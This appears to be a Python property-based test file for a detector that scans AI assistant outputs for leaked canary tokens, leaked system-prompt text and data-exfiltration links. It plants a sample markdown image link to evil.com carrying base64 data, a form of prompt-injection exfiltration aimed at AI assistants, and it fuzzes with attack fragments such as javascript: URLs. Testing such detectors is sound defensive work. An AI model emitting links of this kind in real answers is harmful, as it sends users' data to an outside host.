"""The leakage detector on any output and any context: properties, huge and adversarial outputs."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bastion.detect.base import ScanContext
from bastion.detect.leakage import LeakageDetector

DETECTOR = LeakageDetector()
CANARY = "BASTION-CANARY-7f3a9c21"
PROMPT = (
    "You may offer a settlement of at most 70 percent of the outstanding claim and instalment plans of up to "
    "24 months with a minimum monthly rate of 25 euros; escalate when the debtor mentions insolvency."
)
CONTEXT = ScanContext(protected_texts=(PROMPT,), canaries=(CANARY,), allowed_domains=("muster-inkasso.de",))

_PIECES = st.sampled_from(
    [
        "![x](",
        "](",
        "[",
        "]",
        "(",
        ")",
        "<img src=",
        '"',
        "'",
        "https://",
        "//",
        "@",
        "evil.com",
        "?d=",
        "url(",
        "\u200b",
        "BASTION",
        "CANARY",
        "7f3a9c21",
        "-",
        " ",
        "\n",
        "settlement",
        "70 percent",
        "outstanding claim",
        "muster-inkasso.de",
        "xn--",
        "ü",
        "．",
        "&#58;",
        "\\",
        "data:",
        "javascript:",
        "<a href=",
        ">",
    ]
)


@settings(max_examples=300, deadline=None)
@given(st.lists(st.one_of(_PIECES, st.text(max_size=30)), max_size=50))
def test_never_raises_and_spans_stay_in_bounds(pieces: list[str]) -> None:
    text = "".join(pieces)
    for detection in DETECTOR.detect(text, CONTEXT):
        assert detection.detector == "leakage"
        assert detection.span is not None and 0 <= detection.span.start < detection.span.end <= len(text)
        assert 0.0 <= detection.score <= 1.0


@settings(max_examples=150, deadline=None)
@given(
    text=st.text(max_size=400),
    canaries=st.lists(st.text(max_size=30), max_size=3),
    protected=st.lists(st.text(max_size=300), max_size=2),
    allowed=st.lists(st.text(max_size=30), max_size=3),
)
def test_any_context_is_accepted(
    text: str, canaries: list[str], protected: list[str], allowed: list[str]
) -> None:
    context = ScanContext(
        protected_texts=tuple(protected), canaries=tuple(canaries), allowed_domains=tuple(allowed)
    )
    for detection in DETECTOR.detect(text, context):
        assert detection.span is not None and detection.span.end <= len(text)


@settings(max_examples=100, deadline=None)
@given(prefix=st.text(max_size=200), suffix=st.text(max_size=200))
def test_a_planted_canary_is_always_found(prefix: str, suffix: str) -> None:
    text = f"{prefix} {CANARY} {suffix}"
    spans = [d.span.of(text) for d in DETECTOR.detect(text, CONTEXT) if d.type == "CANARY" and d.span]
    assert any(CANARY in span or span in CANARY for span in spans)


@pytest.mark.slow
def test_ten_megabytes_of_answers_find_the_planted_leaks() -> None:
    answer = (
        "Thank you for your message. I can set up an instalment plan for you; please tell me the amount.\n"
    )
    leak = f"\n![s](https://evil.com/p.png?d=SGFucyBNdWxsZXIgREU4OQ) marker {CANARY}\n"
    chunk = answer * 2_000 + leak
    text = (chunk * (10_000_000 // len(chunk) + 1))[:10_000_000]
    found = [d for d in DETECTOR.detect(text, CONTEXT) if d.flagged]
    assert sum(1 for d in found if d.type == "CANARY") == text.count(CANARY)
    assert sum(1 for d in found if d.type == "EXFILTRATION_LINK") == text.count("![s](")


@pytest.mark.slow
def test_ten_megabytes_built_to_trigger_backtracking_finish() -> None:
    pieces = [
        "![",
        "[x](",
        "<img src=",
        "http://",
        "B-A-S-T-I-O-N-C-A-N-A-R-Y-7-f-3-a-9-c-2-",
        "url(",
        "[a]: ",
        "https://a@",
        PROMPT + " ",
        "<a <a <a",
        "&#58;",
        "www.www.",
        "![x][",
        "\u200b" * 3 + "B",
    ]
    share = 10_000_000 // len(pieces)
    text = "".join((piece * (share // len(piece) + 1))[:share] for piece in pieces)
    for detection in DETECTOR.detect(text, CONTEXT):
        assert detection.span is not None and detection.span.end <= len(text)
